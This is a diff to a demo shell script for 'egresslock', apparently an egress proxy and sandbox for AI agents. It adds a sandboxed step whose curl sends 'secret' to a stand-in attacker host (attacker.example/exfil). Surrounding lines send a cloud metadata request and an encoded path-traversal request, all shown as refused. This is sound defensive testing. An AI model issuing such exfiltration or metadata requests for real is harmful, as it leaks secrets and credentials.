@@ -1,7 +1,8 @@
 #!/usr/bin/env bash
 # The main job on an example: run the egresslock proxy with examples/local-demo.yaml in front of
-# a server on loopback, send it what an agent (or an injected agent) might send with curl, then
-# show the audit log of every decision and verify its hash chain.
+# a server on loopback, send it what an agent (or an injected agent) might send with curl; then
+# run a command in the sandbox (egresslock run), whose only way out is that policy; then show the
+# audit log of every decision and verify its hash chain.
 set -uo pipefail
 cd "$(dirname "$0")/.."
 EL=.venv/bin/egresslock
@@ -33,6 +34,15 @@ ask http://169.254.169.254/latest/meta-data/                           # metadat
 ask "http://docs.demo.test:8765/docs/%2e%2e/admin"                     # traversal refused
 
 kill -TERM $PROXY; wait $PROXY 2>/dev/null
+
+# The same policy around a whole command: the proxy variables point at egresslock, DNS answers
+# only allowed names, and nothing else has a route out of the command's network namespace.
+echo "\$ egresslock run -p $POLICY -- sh -c '...'"
+$EL run -p "$POLICY" --audit "$WORK/audit.db" --resolve docs.demo.test:127.0.0.1 -- sh -c '
+  curl -sS -o /dev/null -w "GET docs.demo.test: %{http_code}\n" http://docs.demo.test:8765/docs/index.html
+  curl -sS -o /dev/null -w "GET attacker.example: %{http_code}\n" "http://attacker.example/exfil?d=secret"
+  getent hosts attacker.example || echo "DNS attacker.example: refused"'
+echo
 echo "\$ egresslock audit --db audit.db"
 $EL audit --db "$WORK/audit.db"
 echo; echo "\$ egresslock audit verify --db audit.db"
